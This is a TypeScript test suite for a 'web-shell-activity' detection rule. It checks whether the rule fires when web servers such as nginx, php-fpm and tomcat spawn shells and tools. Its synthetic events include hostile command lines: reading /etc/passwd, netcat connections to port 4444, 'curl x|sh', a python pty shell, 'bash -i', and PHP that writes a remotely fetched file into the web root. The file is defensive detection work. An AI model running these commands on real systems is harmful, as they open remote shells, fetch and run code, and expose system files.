import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { webShellActivity } from '../../../../../controlplane/src/detections/rules/web-shell-activity';
import { CONTAINER_ID, execEvent } from '../../../../helpers/synthetic-events';
import { chain, proc, ruleContext } from '../../../../helpers/rule-context';
import { eventCodec } from '../../../../../proto/loader';

const nginx = proc(5001, '/usr/sbin/nginx', ['nginx: worker process'], 'nginx');
const phpFpm = proc(5002, '/usr/sbin/php-fpm8.2', ['php-fpm: pool www'], 'php-fpm8.2');
const tomcat = proc(5003, '/opt/java/openjdk/bin/java', ['/opt/java/openjdk/bin/java', '-Dcatalina.base=/usr/local/tomcat', 'org.apache.catalina.startup.Bootstrap', 'start'], 'java');
const gunicorn = proc(5004, '/usr/local/bin/python3.11', ['/usr/local/bin/python', '/usr/local/bin/gunicorn', 'app:app', '-b', '0.0.0.0:8000'], 'gunicorn');
const pyHttp = proc(5005, '/usr/bin/python3', ['python3', '-m', 'http.server', '8080'], 'python3');
const puma = proc(5006, '/usr/local/bin/ruby', ['puma 6.4.0 (tcp://0.0.0.0:3000) [app]'], 'ruby');
const apache = proc(5007, '/usr/sbin/apache2', ['/usr/sbin/apache2', '-k', 'start'], 'apache2');

function exec(filename: string, argv: string[], ...parents: ReturnType<typeof proc>[]) {
  return execEvent({ pid: 7000, nsPid: 70, filename, argv, containerId: CONTAINER_ID, ancestry: chain(...parents) });
}

function fires(ev: ReturnType<typeof exec>): boolean {
  return webShellActivity.match(ev, ruleContext()) !== null;
}

describe('rule web-shell-activity', () => {
  test('should trigger: servers starting shells and tools, directly and through shells', () => {
    const cases = [
      exec('/bin/sh', ['sh', '-c', 'id'], phpFpm),
      exec('/usr/bin/id', ['id'], proc(7001, '/bin/sh', ['sh', '-c', 'id'], 'sh'), phpFpm),
      exec('/usr/bin/whoami', ['whoami'], proc(7001, '/bin/sh', ['sh', '-c', 'whoami'], 'sh'), nginx),
      exec('/bin/cat', ['cat', '/etc/passwd'], proc(7001, '/bin/sh', ['sh', '-c', 'cat /etc/passwd'], 'sh'), tomcat),
      exec('/usr/bin/curl', ['curl', '-s', 'http://203.0.113.9/x'], proc(7001, '/bin/bash', ['bash', '-c', 'curl ...'], 'bash'), gunicorn),
      exec('/usr/bin/wget', ['wget', '-q', 'http://x/y'], pyHttp),
      exec('/bin/nc', ['nc', '10.0.0.1', '4444'], puma),
      exec('/usr/bin/python3', ['python3', '-c', 'import os; os.system("id")'], apache),
      exec('/usr/bin/uname', ['uname', '-a'], proc(7002, '/bin/sh', ['sh', '-c', 'sh -c uname'], 'sh'), proc(7001, '/bin/sh', ['sh', '-c', "sh -c 'sh -c uname'"], 'sh'), nginx),
    ];
    for (const ev of cases) assert.ok(fires(ev), ev.exec!.argv.join(' '));
  });

  test('should trigger: evasions — a renamed shell, a copy named like a server, a tool dropped in /tmp, busybox', () => {
    assert.ok(fires(exec('/var/www/html/img.png', ['/var/www/html/img.png', '-c', 'id; uname -a'], phpFpm)), 'copied shell takes -c with a command line');
    assert.ok(fires(exec('/tmp/kworker', ['/tmp/kworker'], nginx)), 'program from a writable directory');
    assert.ok(fires(exec('/usr/bin/id', ['id'], proc(7003, '/tmp/x', ['/tmp/x', '-c', 'id'], 'x'), phpFpm)), 'through a renamed shell');
    assert.ok(fires(exec('/bin/busybox', ['busybox', 'nc', '1.2.3.4', '80'], nginx)), 'busybox applet');
    assert.ok(fires(exec('/usr/bin/id', ['id'], proc(7004, '/bin/sh', ['sh', '-c', 'id'], 'sh'), proc(5001, '//usr/sbin/../sbin/nginx', ['nginx: worker process'], 'nginx'))), 'server path written another way');
  });

  test('should not trigger: close-but-benign look-alikes', () => {
    // nginx -t from an init script: the server is the child, not the parent.
    assert.equal(fires(exec('/usr/sbin/nginx', ['nginx', '-t'], proc(4000, '/bin/sh', ['/bin/sh', '/etc/init.d/nginx', 'reload'], 'sh'))), false);
    // PHP mail() and Apache piped logs go through sh -c.
    assert.equal(fires(exec('/bin/sh', ['sh', '-c', '/usr/sbin/sendmail -t -i'], phpFpm)), false);
    assert.equal(fires(exec('/bin/sh', ['/bin/sh', '-c', '/usr/bin/rotatelogs /var/log/apache2/access.%Y 86400'], apache)), false);
    // A server re-executing itself, a worker process of the server.
    assert.equal(fires(exec('/usr/sbin/nginx', ['nginx', '-g', 'daemon off;'], nginx)), false);
    // A non-tool child of a server (an image converter), and a shell whose chain has no server.
    assert.equal(fires(exec('/usr/bin/convert', ['convert', 'a.png', 'b.jpg'], phpFpm)), false);
    assert.equal(fires(exec('/bin/sh', ['sh', '-c', 'id'], proc(6000, '/usr/sbin/cron', ['cron'], 'cron'))), false);
    // gzip -c is not a shell's -c.
    assert.equal(fires(exec('/bin/gzip', ['gzip', '-c', 'access.log'], nginx)), false);
  });

  test('Node.js, Java and PHP runtimes are servers in containers, not on hosts (npm scripts, build tools)', () => {
    const node = proc(5008, '/usr/local/bin/node', ['node', 'server.js'], 'node');
    assert.ok(fires(exec('/bin/sh', ['/bin/sh', '-c', 'ls /'], node)), 'a Node.js app in a container spawning a shell');
    const onHost = execEvent({ pid: 7000, filename: '/bin/sh', argv: ['sh', '-c', 'tsc -p .'], ancestry: [proc(300, '/usr/bin/node', ['npm', 'run', 'build'], 'npm run build')] });
    assert.equal(webShellActivity.match(onHost, ruleContext()), null);
    const tomcatOnHost = execEvent({ pid: 7001, filename: '/bin/sh', argv: ['sh', '-c', 'id'], ancestry: [tomcat] });
    assert.ok(webShellActivity.match(tomcatOnHost, ruleContext()), 'Tomcat is a server anywhere');
  });

  test('one alert per server and command: repeats merge', () => {
    const a = webShellActivity.match(exec('/bin/sh', ['sh', '-c', 'id'], phpFpm), ruleContext());
    const b = webShellActivity.match(exec('/bin/sh', ['sh', '-c', 'id'], { ...phpFpm, pid: 5999 }), ruleContext());
    const c = webShellActivity.match(exec('/bin/sh', ['sh', '-c', 'ls'], phpFpm), ruleContext());
    assert.equal(a?.key, b?.key);
    assert.notEqual(a?.key, c?.key);
  });
});

describe('rule web-shell-activity: review findings 5 and 6', () => {
  const onHost = (filename: string, argv: string[], parent: ReturnType<typeof proc>) => execEvent({ pid: 7000, filename, argv, ancestry: [parent, proc(1, '/sbin/init', ['/sbin/init'], 'systemd')] });
  const java = proc(5003, '/opt/java/openjdk/bin/java', ['java', '-jar', '/app/app.jar'], 'java');

  test('should not trigger (review 5): npm, yarn, artisan, composer and Jenkins run commands; module names match whole', () => {
    const cases = [
      exec('/bin/sh', ['sh', '-c', 'node server.js'], proc(5008, '/usr/local/bin/node', ['npm', 'start'], 'npm start')),
      exec('/bin/sh', ['sh', '-c', 'tsc -p .'], proc(5008, '/usr/local/bin/node', ['node', '/usr/local/lib/node_modules/npm/bin/npm-cli.js', 'run', 'build'], 'node')),
      exec('/bin/sh', ['sh', '-c', "'/usr/local/bin/php' 'artisan' queue:work > '/dev/null' 2>&1"], proc(5009, '/usr/local/bin/php', ['php', 'artisan', 'schedule:run'], 'php')),
      exec('/bin/sh', ['sh', '-c', 'git clone x'], proc(5009, '/usr/local/bin/php', ['php', '/usr/bin/composer', 'install'], 'php')),
      exec('/bin/sh', ['sh', '-c', 'make test'], proc(5010, '/opt/java/openjdk/bin/java', ['java', '-jar', '/usr/share/jenkins/jenkins.war'], 'java')),
      exec('/bin/sh', ['sh', '-c', 'eslint .'], proc(5013, '/usr/local/bin/node', ['node', '/opt/yarn-v1.22.19/bin/yarn.js', 'lint'], 'node')),
      exec('/bin/sh', ['sh', '-c', 'git rev-parse HEAD'], proc(5014, '/opt/java/openjdk/bin/java', ['java', '-Xmx2g', '-cp', '/root/.gradle/wrapper/dists/gradle-8.5/lib/gradle-launcher-8.5.jar', 'org.gradle.launcher.daemon.bootstrap.GradleDaemon', '8.5'], 'java')),
      onHost('/usr/bin/uname', ['uname', '-r'], proc(5011, '/usr/bin/python3', ['python3', '/usr/sbin/thin_check'], 'python3')),
      onHost('/bin/sh', ['sh', '-c', 'pg_dump x'], proc(5011, '/usr/bin/python3', ['python3', '-m', 'flask', 'db', 'upgrade'], 'python3')),
      onHost('/usr/bin/id', ['id'], proc(5011, '/usr/bin/ruby', ['ruby', 'rails_console_helper.rb'], 'ruby')),
      onHost('/bin/sh', ['sh', '-c', 'ls'], proc(5011, '/usr/bin/python3', ['python3', '/opt/thinkpad-fan.py'], 'python3')),
    ];
    for (const ev of cases) assert.equal(fires(ev), false, `${ev.ancestry![0].argv.join(' ')} → ${ev.exec!.argv.join(' ')}`);
    // The same modules as servers still are: flask run, a rails server, gunicorn as a module.
    assert.ok(fires(onHost('/bin/sh', ['sh', '-c', 'id'], proc(5012, '/usr/bin/python3', ['python3', '-m', 'flask', 'run'], 'python3'))));
    assert.ok(fires(onHost('/bin/sh', ['sh', '-c', 'id'], proc(5012, '/usr/local/bin/rails', ['ruby', '/usr/local/bin/rails', 'server'], 'ruby'))));
    assert.ok(fires(onHost('/bin/sh', ['sh', '-c', 'id'], proc(5012, '/usr/bin/python3', ['python3', '-m', 'gunicorn.app.wsgiapp', 'app:app'], 'python3'))));
  });

  test('a rules file can take java out of the app runtimes ("!java")', () => {
    const ev = exec('/bin/sh', ['sh', '-c', 'id'], java);
    assert.ok(fires(ev));
    const file = { lists: { app_runtimes: ['!java'] }, rules: {}, intel: { feeds: [] } };
    assert.equal(webShellActivity.match(ev, ruleContext({ file })), null);
  });

  test('should trigger (review 6): server look-alikes and one-liners as children, wrappers, scripts from writable dirs, helper bypass', () => {
    const sh = (cmd: string, pid = 7001) => proc(pid, '/bin/sh', ['sh', '-c', cmd], 'sh');
    const cases = [
      exec('/tmp/php-fpm', ['php-fpm', '-c', 'id'], phpFpm),
      exec('/usr/bin/python3', ['python3', '-c', 'import pty;pty.spawn("/bin/sh")', 'uvicorn'], nginx),
      exec('/usr/local/bin/node', ['node', '-e', 'require("child_process").execSync("id")'], nginx),
      exec('/usr/local/bin/php', ['php', '-r', 'file_put_contents("/var/www/x.php",file_get_contents("http://e/x"));'], phpFpm),
      exec('/bin/bash', ['bash', '-i'], proc(7001, '/usr/bin/nohup', ['nohup', 'bash', '-i'], 'nohup'), java),
      exec('/usr/bin/id', ['id'], proc(7001, '/usr/bin/timeout', ['timeout', '5', 'id'], 'timeout'), java),
      exec('/usr/bin/timeout', ['timeout', '5', 'id'], phpFpm),
      exec('/bin/sh', ['sh', '-c', 'id'], proc(7001, '/usr/bin/setsid', ['setsid', 'sh', '-c', 'id'], 'setsid'), phpFpm),
      exec('/usr/bin/id', ['id'], proc(7001, '/usr/bin/xargs', ['xargs', 'id'], 'xargs'), phpFpm),
      exec('/usr/bin/python3', ['python3', '/tmp/x.py'], phpFpm),
      exec('/usr/bin/perl', ['perl', '/dev/shm/a'], phpFpm),
      exec('/run/lock/.x', ['/run/lock/.x'], phpFpm),
      exec('/usr/bin/java', ['java', '-jar', '/tmp/x.jar'], nginx),
      exec('/bin/sh', ['sh', '-c', '/usr/sbin/sendmail -t </dev/null; id; curl x|sh'], phpFpm),
      exec('/bin/sh', ['sh', '-c', 'logger "$(id)"'], phpFpm),
      exec('/opt/bk', ['bk', '-c', 'id'], nginx),
      exec('/usr/bin/id', ['id'], sh('a', 1), sh('b', 2), sh('c', 3), sh('d', 4), sh('e', 5), sh('f', 6), sh('g', 7), phpFpm),
    ];
    for (const ev of cases) assert.ok(fires(ev), `${ev.exec!.argv.join(' ')} under ${ev.ancestry![0].argv.join(' ')}`);
  });
});

describe('rule web-shell-activity over decoded events', () => {
  test('judges an event the same when its ancestors are shared with the events before it (frozen)', () => {
    const shell = proc(7001, '/bin/sh', ['sh', '-c', 'id'], 'sh');
    const cases: [ReturnType<typeof exec>, boolean][] = [
      [exec('/usr/bin/id', ['id'], shell, phpFpm), true],
      [exec('/usr/bin/id', ['id'], shell, proc(4000, '/usr/bin/bash', ['bash'], 'bash')), false],
      [exec('/usr/sbin/sendmail', ['/usr/sbin/sendmail', '-t', '-i'], phpFpm), false],
      [exec('/tmp/x', ['/tmp/x'], shell, phpFpm), true],
    ];
    // Three rounds: decoded once, then shared (frozen) from the second sighting on.
    for (let round = 0; round < 3; round++)
      for (const [ev, expected] of cases) {
        const decoded = eventCodec().decode(eventCodec().encode(ev));
        assert.equal(fires(decoded), expected, `round ${round}: ${ev.exec!.argv.join(' ')}`);
        if (round > 0) assert.ok(Object.isFrozen(decoded.ancestry[0]), 'the ancestors are the shared decode');
      }
  });
});
